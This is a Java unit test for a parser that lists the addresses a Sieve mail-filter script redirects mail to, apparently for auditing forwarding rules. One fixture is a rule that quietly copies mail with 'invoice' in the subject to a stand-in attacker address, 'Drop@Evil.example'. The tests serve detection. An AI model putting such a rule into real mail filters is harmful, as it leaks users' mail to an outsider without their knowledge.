package org.openair.action.connector;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** Which addresses a Sieve script sends mail to. */
class SieveConnectorTest {

  @Test
  void shouldFindRedirectsWithAndWithoutCopy() {
    String script =
        "require [\"copy\"];\n"
            + "if header :contains \"subject\" \"invoice\" { redirect :copy \"Drop@Evil.example\"; }\n"
            + "redirect \"boss@corp.example\";\n";

    assertThat(SieveConnector.redirects(script))
        .containsExactly("drop@evil.example", "boss@corp.example");
  }

  @Test
  void shouldIgnoreRedirectsInComments() {
    assertThat(SieveConnector.redirects("# redirect \"x@evil.example\";\nkeep;\n")).isEmpty();
  }

  @Test
  void shouldFindNothingInAScriptThatOnlyFiles() {
    assertThat(SieveConnector.redirects("require \"fileinto\"; fileinto \"Junk\";"))
        .isEqualTo(List.of());
  }
}
